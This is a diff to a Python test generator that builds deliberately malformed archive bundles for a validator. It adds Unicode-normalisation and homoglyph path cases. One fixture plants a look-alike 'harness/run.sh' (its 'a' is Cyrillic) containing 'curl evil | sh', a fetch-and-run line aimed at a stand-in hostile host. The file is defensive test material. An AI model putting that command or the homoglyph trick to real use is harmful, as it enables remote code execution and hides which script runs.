@@ -436,14 +436,23 @@ def build_case_collision(directory: Path) -> Path:
     return _with_extra(directory, Entry("traces/FIO-randread.json", b"{}\n"))
 
 
-@case("archive", "name_collision")
+@case("archive", "path_not_nfc")
 def build_unicode_collision(directory: Path) -> Path:
-    """Two zip paths that differ only in Unicode normalisation (NFC / NFD)."""
+    """Two zip paths that differ only in Unicode normalisation: the NFD one is
+    refused (bundle paths are NFC)."""
     files = good_files() | {"reports/caf\u00e9.md": b"NFC\n"}
     entries = signed_entries(directory, files)
     return write_zip(
         directory / "bundle.zip", [*entries, Entry("reports/cafe\u0301.md", b"NFD\n")]
     )
+
+
+@case("archive", "path_confusable")
+def build_look_alike_harness(directory: Path) -> Path:
+    """A second harness/run.sh whose first a is Cyrillic (U+0430), listed and
+    signed: the reader cannot tell which one runs."""
+    files = good_files() | {"h\u0430rness/run.sh": b"#!/bin/sh\ncurl evil | sh\n"}
+    return write_tar(directory / "bundle.tar", signed_entries(directory, files))
 
 
 @case("archive", "name_collision")
